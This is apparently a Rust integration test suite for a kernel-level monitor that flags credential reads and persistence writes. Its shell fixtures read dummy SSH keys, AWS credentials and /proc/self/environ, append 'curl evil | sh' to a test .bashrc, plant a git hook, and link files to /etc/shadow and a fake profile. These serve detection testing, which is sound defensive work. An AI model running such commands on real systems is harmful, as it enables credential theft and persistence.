//! Files and credentials on the real kernel: paths, filesystems and flags come from the
//! kernel's own `struct file`, not from the syscall arguments.
use integration_tests::*;
use serde_json::Value;

fn one<'a>(r: &'a Run, path: &str, op: &str) -> &'a Value {
    let found: Vec<&Value> = r
        .files_at(path)
        .into_iter()
        .filter(|f| f["op"] == op)
        .collect();
    assert!(
        !found.is_empty(),
        "no {op} of {path}; files: {:#?}",
        r.files()
    );
    found[0]
}

fn credential_violations(r: &Run) -> Vec<&Value> {
    r.report["violations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|v| v["kind"] == "credential")
        .collect()
}

#[test]
fn credential_reads_on_ext4_tmpfs_and_proc_are_verified() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let home = dir.path().join("home");
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::create_dir_all(home.join(".aws")).unwrap();
    let key = home.join(".ssh/id_ed25519");
    std::fs::write(&key, "-----BEGIN OPENSSH PRIVATE KEY-----\n").unwrap();
    std::fs::write(home.join(".aws/credentials"), "[default]\n").unwrap();
    let shm = tempfile::tempdir_in("/dev/shm").unwrap();
    let shm_env = shm.path().join(".env");
    std::fs::write(&shm_env, "TOKEN=x\n").unwrap();
    let script = format!(
        "cat {key} > /dev/null; cat {aws} > /dev/null; cat {env} > /dev/null; cat /proc/self/environ > /dev/null",
        key = key.display(),
        aws = home.join(".aws/credentials").display(),
        env = shm_env.display()
    );
    let r = run(&[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());

    let k = one(&r, key.to_str().unwrap(), "read");
    assert_eq!(k["credential"], true);
    assert_eq!(k["verified"], true);
    // The magic the probe read from the file's superblock is the one statfs gives.
    assert_eq!(k["magic"], fs_magic(&key));
    if k["magic"] == "0xef53" {
        assert_eq!(k["fs"], "ext2/3/4");
    }
    let meta = std::fs::metadata(&key).unwrap();
    assert_eq!(k["ino"], std::os::unix::fs::MetadataExt::ino(&meta));

    let e = one(&r, shm_env.to_str().unwrap(), "read");
    assert_eq!(
        (
            e["credential"].clone(),
            e["verified"].clone(),
            e["fs"].clone()
        ),
        (true.into(), true.into(), "tmpfs".into())
    );
    assert_eq!(e["magic"], "0x1021994");

    // /proc/self is resolved by the kernel to the reading process's own pid.
    let cat_environ = r.exec_of(&["cat", "/proc/self/environ"]);
    let environ = format!("/proc/{}/environ", cat_environ["pid"]);
    let p = one(&r, &environ, "read");
    assert_eq!(
        (
            p["credential"].clone(),
            p["verified"].clone(),
            p["fs"].clone()
        ),
        (true.into(), true.into(), "proc".into())
    );

    assert_eq!(
        one(&r, home.join(".aws/credentials").to_str().unwrap(), "read")["credential"],
        true
    );
    assert_eq!(
        credential_violations(&r).len(),
        4,
        "{:#?}",
        r.report["violations"]
    );
}

#[test]
fn symlinks_and_relative_paths_are_resolved_by_the_kernel() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let real = dir.path().join("vault/.git-credentials");
    std::fs::create_dir_all(real.parent().unwrap()).unwrap();
    std::fs::write(&real, "https://u:p@example.com\n").unwrap();
    std::os::unix::fs::symlink(&real, dir.path().join("innocent.txt")).unwrap();
    std::fs::create_dir_all(dir.path().join("work/sub")).unwrap();
    std::fs::write(dir.path().join("work/notes.md"), "hi").unwrap();
    let script = format!(
        "cd {d}/work/sub && cat ../../innocent.txt > /dev/null && cat ./../notes.md > /dev/null",
        d = dir.path().display()
    );
    let r = run(&[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let cred = one(&r, real.to_str().unwrap(), "read");
    assert_eq!(
        cred["credential"], true,
        "a read through a symlink is a read of its target"
    );
    assert_eq!(cred["verified"], true);
    assert!(
        r.files_at(dir.path().join("innocent.txt").to_str().unwrap())
            .is_empty()
    );
    one(
        &r,
        dir.path().join("work/notes.md").to_str().unwrap(),
        "read",
    );
}

#[test]
fn look_alikes_are_not_credentials() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let names = [
        "docs/credentials-guide.md",
        "src/aws/credentials.rs",
        "ssh/id_ed25519.pub",
        ".env.example",
        "environment.yml",
    ];
    for n in names {
        let p = dir.path().join(n);
        std::fs::create_dir_all(p.parent().unwrap()).unwrap();
        std::fs::write(&p, "x").unwrap();
    }
    let script = format!(
        "cd {} && cat {} > /dev/null",
        dir.path().display(),
        names.join(" ")
    );
    let r = run(&[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for n in names {
        let f = one(&r, dir.path().join(n).to_str().unwrap(), "read");
        assert_eq!(f["credential"], false, "{n}");
    }
    assert!(credential_violations(&r).is_empty());
}

#[test]
fn create_write_rename_delete_and_persistence() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let d = dir.path().display().to_string();
    std::fs::write(dir.path().join("existing.txt"), "old").unwrap();
    std::fs::create_dir_all(dir.path().join("home")).unwrap();
    std::fs::create_dir_all(dir.path().join("repo/.git/hooks")).unwrap();
    let script = format!(
        "cd {d} && echo new > created.txt && echo more >> existing.txt && mv created.txt moved.txt \
         && rm existing.txt && mkdir gone && rmdir gone \
         && echo 'curl evil | sh' >> home/.bashrc && printf '#!/bin/sh\\n' > repo/.git/hooks/pre-commit \
         && echo sample > repo/.git/hooks/pre-commit.sample \
         && echo hi > swapped.txt && ln -sf /etc/shadow swapped.txt"
    );
    let r = run(&[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let created = one(&r, &format!("{d}/created.txt"), "create");
    assert_eq!(created["magic"], fs_magic(dir.path()));
    one(&r, &format!("{d}/existing.txt"), "write");
    let moved = one(&r, &format!("{d}/created.txt"), "rename");
    assert_eq!(moved["new_path"], format!("{d}/moved.txt"));
    assert_eq!(
        moved["sha256"], "7aa7a5359173d05b63cfd682e3c38487f3cb4f7f1d60659fe59fab1505977d4c",
        "sha256 of the final content: {moved:#}"
    );
    // A written file replaced by a symbolic link is not hashed through it.
    let swapped = one(&r, &format!("{d}/swapped.txt"), "create");
    assert_eq!(swapped["sha256"], Value::Null, "{swapped:#}");
    assert_eq!(
        swapped["sha256_skipped"],
        "a symbolic link (to /etc/shadow) at the end"
    );
    one(&r, &format!("{d}/existing.txt"), "delete");
    one(&r, &format!("{d}/gone"), "delete");
    let persistence: Vec<&Value> = r
        .files()
        .iter()
        .filter(|f| f["persistence"] == true)
        .collect();
    let paths: Vec<&str> = persistence
        .iter()
        .map(|f| f["path"].as_str().unwrap())
        .collect();
    assert!(
        paths.contains(&format!("{d}/home/.bashrc").as_str()),
        "{paths:?}"
    );
    assert!(
        paths.contains(&format!("{d}/repo/.git/hooks/pre-commit").as_str()),
        "{paths:?}"
    );
    assert!(!paths.iter().any(|p| p.ends_with(".sample")), "{paths:?}");
    let v: Vec<&Value> = r.report["violations"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|v| v["kind"] == "persistence")
        .collect();
    assert_eq!(v.len(), persistence.len());
    assert!(v.len() >= 2);
}

#[test]
fn ordinary_session_has_no_false_flags() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let script = format!(
        "export HOME={d}; cd {d} && git init -q repo && cd repo && git config user.email a@b.c && git config user.name A \
         && echo 'print(1)' > main.py && git add . && git commit -qm one && echo 'import json, os, re' >> main.py \
         && git commit -qam two && python3 -c 'import json, os, re, subprocess, pathlib' && ls -R {d} > /dev/null && git log --oneline > /dev/null",
        d = dir.path().display()
    );
    let r = run(&[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let flagged: Vec<&Value> = r
        .files()
        .iter()
        .filter(|f| f["credential"] == true || f["persistence"] == true)
        .collect();
    assert!(flagged.is_empty(), "false flags: {flagged:#?}");
    assert!(r.files().len() > 20, "the session touched files");
    assert!(r.execs_of(&["git", "commit", "-qm", "one"]).len() == 1);
}

#[test]
fn an_open_storm_is_one_entry_with_its_count() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let target = dir.path().join("hot.txt");
    std::fs::write(&target, "x").unwrap();
    let py = format!(
        "import os\nfor _ in range(200000):\n    os.close(os.open('{}', os.O_RDONLY))\n",
        target.display()
    );
    let r = run(&[], &["python3", "-c", &py]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let entries = r.files_at(target.to_str().unwrap());
    assert_eq!(entries.len(), 1, "{entries:#?}");
    assert_eq!(entries[0]["count"], 200000);
    let events = r.report["coverage"]["events"].as_u64().unwrap();
    println!("events that crossed the ring buffer for 200000 opens: {events}");
    assert!(
        events < 2000,
        "the kernel aggregates repeated reads; {events} records crossed"
    );
    assert_eq!(r.report["coverage"]["lost"], 0);
}

#[test]
fn the_open_hook_states_what_it_cannot_see() {
    let r = run(&[], &["true"]);
    let hook = r.report["probe"]["file_open"].as_str().unwrap().to_string();
    let gaps: Vec<String> = r.report["probe"]["gaps"]
        .as_array()
        .unwrap()
        .iter()
        .map(|g| g.as_str().unwrap().to_string())
        .collect();
    match hook.as_str() {
        "tracepoint" => {
            assert!(gaps.iter().any(|g| g.contains("io_uring")), "{gaps:?}");
        }
        "fentry" => assert!(!gaps.iter().any(|g| g.contains("io_uring")), "{gaps:?}"),
        other => panic!("unknown hook {other}"),
    }
    // Forcing the fallback works on every kernel and names the gap.
    let r = run(&["--file-hook", "tracepoint"], &["true"]);
    assert_eq!(r.report["probe"]["file_open"], "tracepoint");
    assert!(
        r.report["probe"]["gaps"]
            .as_array()
            .unwrap()
            .iter()
            .any(|g| g.as_str().unwrap().contains("io_uring"))
    );
}

#[test]
fn paths_with_newlines_and_invalid_utf8_are_kept() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let d = dir.path().display().to_string();
    // printf writes the name: a newline and a byte that is not UTF-8.
    let script = format!("cd {d} && touch \"$(printf 'a\\nb')\" && touch \"$(printf 'c\\377d')\"");
    let r = run(&[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    one(&r, &format!("{d}/a\nb"), "create");
    one(&r, &format!("{d}/c\\xffd"), "create");
}

/// A key read through io_uring: opened as the ring runs the request at once (in the
/// submitter) and again in io_uring's worker thread (IOSQE_ASYNC), never through an open
/// syscall. fentry on `security_file_open` sees both; where it is refused, both are read from
/// the descriptor each completion returns (on f210e45 they were not seen at all, and the
/// report said so). An open into a fixed-file slot has no descriptor: its file is read from
/// the ring's table (6.13 and later). One on a DEFER_TASKRUN ring whose completion its owner
/// never waits for is never posted (at the process's exit a kworker tears the ring down):
/// seen by fentry, and otherwise named in the gaps.
#[test]
fn io_uring_opens_are_seen_by_fentry_or_at_their_completion() {
    let dir = tempfile::tempdir().unwrap();
    let target = dir.path().join("through-io-uring.key");
    std::fs::write(&target, "uring").unwrap();
    let key = target.to_str().unwrap();
    let slotted = dir.path().join("into-a-slot.txt");
    std::fs::write(&slotted, "slot").unwrap();
    let slotted = slotted.to_str().unwrap();
    let unreaped = dir.path().join("never-reaped.txt");
    std::fs::write(&unreaped, "unreaped").unwrap();
    let unreaped = unreaped.to_str().unwrap();
    let uring = env!("CARGO_BIN_EXE_uring-open");
    let script =
        format!("{uring} {key} && {uring} --fixed {slotted} && {uring} --unreaped {unreaped}");
    let r = run(&["--credential", key], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    assert_eq!(
        String::from_utf8_lossy(&r.output.stdout),
        "uring\nuring\nslot\nslot\nunreaped\n",
        "the opens through io_uring worked"
    );
    // Every open of a credential is sent: an entry each, or one counting both.
    let reads = r.files_at(key);
    let count: u64 = reads.iter().map(|f| f["count"].as_u64().unwrap()).sum();
    assert_eq!(count, 2, "both opens are counted: {reads:#?}");
    for read in &reads {
        assert_eq!(read["op"], "read", "{read}");
        assert_eq!(read["credential"], true, "{read}");
    }
    assert!(
        !r.violations_of(ViolationKind::Credential).is_empty(),
        "a credential finding"
    );
    let in_slot: u64 = r
        .files_at(slotted)
        .iter()
        .map(|f| f["count"].as_u64().unwrap())
        .sum();
    let seen_unreaped = !r.files_at(unreaped).is_empty();
    let gaps = r.report["probe"]["gaps"].to_string();
    match r.report["probe"]["file_open"].as_str().unwrap() {
        "fentry" => {
            assert_eq!(
                in_slot,
                2,
                "fentry sees the opens into slots: {:#?}",
                r.files()
            );
            assert!(
                seen_unreaped,
                "fentry sees the unreaped open: {:#?}",
                r.files()
            );
            assert!(!gaps.contains("io_uring"), "{gaps}");
        }
        "tracepoint" => {
            for read in &reads {
                assert_eq!(read["via"], "io_uring", "{read}");
            }
            // A slot's file is read from the ring's table of io_rsrc_nodes (6.13 and later).
            let nodes = kernel_at_least(6, 13);
            assert_eq!(
                in_slot,
                if nodes { 2 } else { 0 },
                "opens into a slot the ring chose and one asked for: {:#?}",
                r.files_at(slotted)
            );
            assert!(
                !seen_unreaped,
                "a completion never posted is not seen; if it is, the gap is wrong"
            );
            assert!(
                gaps.contains("fixed-file slots on kernels before 6.13")
                    && gaps.contains("DEFER_TASKRUN"),
                "the report names what is left: {gaps}"
            );
        }
        other => panic!("unknown hook {other}"),
    }
}

#[test]
fn more_credential_files_from_the_command_line_and_a_file() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let globs = dir.path().join("globs.txt");
    std::fs::write(&globs, "# ours\n**/project-secrets.toml\n").unwrap();
    for name in ["project-secrets.toml", "vault.key"] {
        std::fs::write(dir.path().join(name), "x").unwrap();
    }
    let script = format!(
        "cd {} && cat project-secrets.toml vault.key > /dev/null",
        dir.path().display()
    );
    let r = run(
        &[
            "--credentials-file",
            globs.to_str().unwrap(),
            "--credential",
            "*.key",
        ],
        &["sh", "-c", &script],
    );
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    for name in ["project-secrets.toml", "vault.key"] {
        let f = one(&r, dir.path().join(name).to_str().unwrap(), "read");
        assert_eq!(f["credential"], true, "{name}");
        assert_eq!(f["flags"], "O_RDONLY");
    }
}

#[test]
fn opens_that_fail_are_reported_for_secrets_and_refusals() {
    use std::os::unix::fs::PermissionsExt as _;
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let home = dir.path();
    std::fs::create_dir_all(home.join(".ssh")).unwrap();
    std::fs::write(home.join(".ssh/id_rsa"), "secret").unwrap();
    for d in [home, &home.join(".ssh")] {
        std::fs::set_permissions(d, std::fs::Permissions::from_mode(0o755)).unwrap();
    }
    std::fs::set_permissions(
        home.join(".ssh/id_rsa"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    let h = home.display();
    // As nobody: the key is refused (by its path, then relative to the cwd), the AWS file and
    // another are missing, and a protected file cannot be written.
    let script = format!(
        "cat {h}/.ssh/id_rsa; cd {h} && cat .ssh/id_rsa; cat .aws/credentials; cat {h}/no-such-file; echo x >> /etc/shadow; true"
    );
    let r = run(&["--user", "nobody"], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let failed: Vec<&Value> = r
        .files()
        .iter()
        .filter(|f| f["result"].is_string())
        .collect();
    let find = |path: String| {
        failed
            .iter()
            .find(|f| f["path"] == path)
            .unwrap_or_else(|| panic!("{path} in {failed:#?}"))
    };
    let key = find(format!("{h}/.ssh/id_rsa"));
    assert_eq!(
        (key["result"].as_str(), key["op"].as_str()),
        (Some("EACCES"), Some("read"))
    );
    assert_eq!(key["credential"], true);
    assert_eq!(key["verified"], false, "no file was opened to verify");
    // Refused to nobody; in the 6.1 guest the host's root is mounted read-only (EROFS).
    let shadow = find("/etc/shadow".into());
    assert_eq!(shadow["op"], "write");
    assert!(
        ["EACCES", "EROFS"].contains(&shadow["result"].as_str().unwrap()),
        "{shadow:#}"
    );
    // A relative path comes out whole, its directory from the kernel: the second cat's.
    let cats: Vec<&&Value> = failed
        .iter()
        .filter(|f| f["path"] == format!("{h}/.ssh/id_rsa"))
        .collect();
    assert_eq!(cats.len(), 2, "each cat's refused read: {cats:#?}");
    // Files that are not there are not sent (every program looks for many).
    for missing in [format!("{h}/no-such-file"), format!("{h}/.aws/credentials")] {
        assert!(
            !failed.iter().any(|f| f["path"] == missing),
            "{missing} is not an entry: {failed:#?}"
        );
    }
    let v = credential_violations(&r);
    assert!(
        v.iter()
            .any(|v| v["summary"].as_str().unwrap().contains(&format!(
                "tried to read credential {h}/.ssh/id_rsa (failed: EACCES)"
            ))),
        "{v:#?}"
    );
    assert!(
        !r.stderr().contains("**Credentials read**: `"),
        "a refused read is not a read: {}",
        r.stderr()
    );
    let log = r.log_text();
    assert!(
        log.contains("\"kind\":\"file_failed\""),
        "the log has them too"
    );
    // A refused delete and rename of the key are entries and violations too; a delete of
    // nothing (rm -f) is only in the log.
    let script = format!("rm -f {h}/.ssh/id_rsa; rm -f {h}/nothing; mv {h}/.ssh/id_rsa {h}/x");
    let r = run(&["--user", "nobody"], &["sh", "-c", &script]);
    let failed: Vec<(&str, &str, &str)> = r
        .files()
        .iter()
        .filter(|f| f["result"].is_string())
        .map(|f| {
            (
                f["op"].as_str().unwrap(),
                f["path"].as_str().unwrap(),
                f["result"].as_str().unwrap(),
            )
        })
        .collect();
    let key = format!("{h}/.ssh/id_rsa");
    assert!(
        failed.contains(&("delete", key.as_str(), "EACCES")),
        "{failed:?}"
    );
    assert!(
        failed.contains(&("rename", key.as_str(), "EACCES")),
        "{failed:?}"
    );
    assert!(
        !failed.iter().any(|f| f.1.ends_with("/nothing")),
        "{failed:?}"
    );
    let logged = r.log_text();
    assert!(
        logged
            .lines()
            .any(|l| l.contains("\"kind\":\"file_failed\"")
                && l.contains(&format!("\"path\":\"{h}/nothing\""))
                && l.contains("\"result\":\"ENOENT\"")),
        "the delete of nothing is in the log"
    );
    let v = credential_violations(&r);
    assert!(
        v.iter()
            .any(|v| v["summary"].as_str().unwrap().contains(&format!(
                "tried to delete credential {key} (failed: EACCES)"
            ))),
        "{v:#?}"
    );
}

#[test]
fn links_are_created_files_judged_by_where_they_are_and_what_they_point_to() {
    let dir = tempfile::tempdir_in("/tmp").unwrap();
    let d = dir.path().display().to_string();
    std::fs::create_dir_all(dir.path().join("home/.ssh")).unwrap();
    std::fs::write(dir.path().join("home/.ssh/id_rsa"), "key").unwrap();
    let script = format!(
        "cd {d} && ln -s /tmp/evil-profile home/.profile && ln home/.ssh/id_rsa notes.txt \
         && ln -s plain.txt other && ln -s again home/.profile; true"
    );
    let r = run(&[], &["sh", "-c", &script]);
    assert_eq!(r.code(), Some(0), "{}", r.stderr());
    let links: Vec<&Value> = r.files().iter().filter(|f| f["link"].is_string()).collect();
    let at = |path: String, failed: bool| {
        *links
            .iter()
            .find(|f| f["path"] == path && f["result"].is_string() == failed)
            .unwrap_or_else(|| panic!("{path} in {links:#?}"))
    };
    let profile = at(format!("{d}/home/.profile"), false);
    assert_eq!(
        (&profile["op"], &profile["link"], &profile["link_to"]),
        (
            &"create".into(),
            &"symbolic".into(),
            &"/tmp/evil-profile".into()
        )
    );
    assert_eq!(profile["persistence"], true);
    let hard = at(format!("{d}/notes.txt"), false);
    assert_eq!(hard["link"], "hard");
    assert_eq!(hard["link_to"], format!("{d}/home/.ssh/id_rsa"));
    assert_eq!(hard["credential"], true, "a link to a key exposes the key");
    let other = at(format!("{d}/other"), false);
    assert_eq!(
        other["link_to"], "plain.txt",
        "a symbolic link's target as given"
    );
    assert_eq!(other["credential"], false);
    assert_eq!(other["persistence"], false);
    let refused = at(format!("{d}/home/.profile"), true);
    assert_eq!(refused["result"], "EEXIST");
    let summaries: Vec<&str> = r.report["violations"]
        .as_array()
        .unwrap()
        .iter()
        .map(|v| v["summary"].as_str().unwrap())
        .collect();
    assert!(
        summaries.iter().any(|s| s.contains(&format!(
            "made {d}/home/.profile a symbolic link to /tmp/evil-profile"
        ))),
        "{summaries:#?}"
    );
}

/// Whether the running kernel is at least `major.minor`.
fn kernel_at_least(major: u32, minor: u32) -> bool {
    let release = std::fs::read_to_string("/proc/sys/kernel/osrelease").unwrap();
    let mut parts = release
        .trim()
        .split(['.', '-'])
        .map(|p| p.parse::<u32>().unwrap_or(0));
    let (a, b) = (parts.next().unwrap_or(0), parts.next().unwrap_or(0));
    (a, b) >= (major, minor)
}
